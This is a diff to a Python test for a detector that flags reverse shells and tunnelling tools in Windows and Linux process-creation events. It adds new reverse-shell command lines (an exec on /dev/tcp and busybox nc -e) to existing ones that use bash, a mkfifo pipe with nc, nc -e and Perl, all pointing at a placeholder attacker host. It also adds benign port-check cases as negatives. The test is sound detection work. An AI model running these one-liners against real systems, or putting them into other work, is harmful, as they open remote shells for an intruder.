@@ -33,6 +33,8 @@ def test_reverse_shells_and_tunnels_from_windows_and_linux_command_lines():
         "lx-bash": ("/usr/bin/bash", "bash -c 'bash -i >& /dev/tcp/%s/4444 0>&1'" % ATTACKER, linux),
         "lx-fifo": ("/usr/bin/sh", "sh -c rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|sh -i 2>&1|nc %s 443 >/tmp/f" % ATTACKER, linux),
         "lx-nc": ("/usr/bin/nc.traditional", "nc -e /bin/sh %s 4444" % ATTACKER, linux),
+        "lx-fd": ("/bin/sh", "sh -c 'exec 5<>/dev/tcp/%s/80; cat <&5 | while read l; do $l 2>&5 >&5; done'" % ATTACKER, linux),
+        "lx-busybox": ("/bin/busybox", "busybox nc %s 443 -e sh" % ATTACKER, linux),
         "lx-perl": ("/usr/bin/perl", "perl -e 'use Socket;$i=\"%s\";socket(S,PF_INET,SOCK_STREAM,getprotobyname(\"tcp\"));"
                     "if(connect(S,sockaddr_in(443,inet_aton($i)))){open(STDIN,\">&S\");exec(\"/bin/sh -i\");};'" % ATTACKER, linux),
         "ws-nc": ("C:\\Users\\Public\\nc.exe", "nc.exe -e cmd.exe %s 443" % ATTACKER, SYSMON),
@@ -52,6 +54,9 @@ def test_reverse_shells_and_tunnels_from_windows_and_linux_command_lines():
         "lx-ncz": ("/usr/bin/nc", "nc -zv db.corp.example 5432", linux),
         "lx-socat": ("/usr/bin/socat", "socat TCP-LISTEN:8080,fork TCP:backend.corp.example:80", linux),
         "lx-http": ("/usr/bin/python3", "python3 -m http.server 8000", linux),
+        # port checks through bash's /dev/tcp (health checks, wait-for-it) put no shell on it
+        "lx-check": ("/usr/bin/bash", "bash -c '</dev/tcp/db.corp.example/5432'", linux),
+        "lx-check2": ("/usr/bin/bash", "timeout 1 bash -c 'echo > /dev/tcp/db.corp.example/5432'", linux),
         "ws-dns": ("C:\\Program Files\\cloudflared\\cloudflared.exe", "cloudflared.exe proxy-dns --port 5053", SYSMON),
         "ws-code": ("C:\\Program Files\\Microsoft VS Code\\Code.exe", "\"Code.exe\" --new-window C:\\src", SYSMON),
         "ws-ps": ("C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
@@ -60,7 +65,7 @@ def test_reverse_shells_and_tunnels_from_windows_and_linux_command_lines():
     events = [_sysmon(host, image, cmd, st) for host, (image, cmd, st) in {**attacks, **benign}.items()]
     found = _hunt(events)
     assert set(found) == set(attacks)
-    for host in ("lx-bash", "lx-fifo", "lx-nc", "lx-perl", "ws-nc", "ws-powercat"):
+    for host in ("lx-bash", "lx-fifo", "lx-nc", "lx-fd", "lx-busybox", "lx-perl", "ws-nc", "ws-powercat"):
         assert found[host][:2] == ("Reverse_Shell_Command_Line", 80), host
     assert found["ws-ngrok"][:2] == ("Tunnelling_Tool_ngrok", 65)
     assert found["ws-chisel"][:2] == ("Tunnelling_Tool_chisel", 65)  # renamed binary, chisel's syntax
